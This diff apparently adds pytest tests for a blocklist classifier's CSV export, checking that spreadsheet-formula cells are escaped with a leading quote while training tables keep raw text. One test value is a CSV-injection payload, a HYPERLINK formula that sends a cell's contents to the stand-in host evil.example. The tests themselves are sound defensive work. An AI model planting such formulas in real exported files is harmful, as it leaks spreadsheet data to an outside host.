@@ -108,6 +108,45 @@ def test_write_export_csv_and_json(exported: list[dict[str, Any]], tmp_path: Pat
         write_export(exported, tmp_path / "blocklist.xlsx")
 
 
+@pytest.mark.parametrize(
+    "cell",
+    [
+        '=HYPERLINK("http://evil.example/?"&A1,"открыть")',
+        "+7 700 123",
+        "-1+1",
+        "@SUM(A1)",
+        "\t=1",
+        "\r=1",
+        " =1",
+    ],
+)
+def test_csv_cells_a_spreadsheet_would_run_are_written_as_text(
+    cell: str, exported: list[dict[str, Any]], tmp_path: Path
+) -> None:
+    hostile = [{**exported[0], "url": cell, "urls": [cell], "domain": cell, "contacts": cell, "expert": cell}]
+    with write_export(hostile, tmp_path / "blocklist.csv").open(encoding="utf-8", newline="") as handle:
+        [row] = list(csv.DictReader(handle))
+    for name in ("url", "urls", "domain", "contacts", "expert"):
+        assert row[name] == "'" + cell, name
+    assert row["score"] == str(exported[0]["score"])  # numbers stay numbers
+    assert (
+        json.loads(write_export(hostile, tmp_path / "b.json").read_text(encoding="utf-8"))[0]["url"] == cell
+    )
+
+
+def test_training_tables_keep_their_text_and_tables_for_people_do_not(tmp_path: Path) -> None:
+    from classifier.common.outputs import TableWriter
+
+    row = {"id": "1", "text": "=1+1 закладки", "score": -0.5}
+    for for_people, expected in ((False, "=1+1 закладки"), (True, "'=1+1 закладки")):
+        path = tmp_path / f"{for_people}.csv"
+        with TableWriter(path, list(row), for_people=for_people) as writer:
+            writer.write([row])
+        with path.open(encoding="utf-8", newline="") as handle:
+            [written] = list(csv.DictReader(handle))
+        assert written["text"] == expected and written["score"] == "-0.5"
+
+
 def test_export_labels_gives_decided_cases_as_training_rows(store: CaseStore) -> None:
     from classifier.queue import export_labels
 
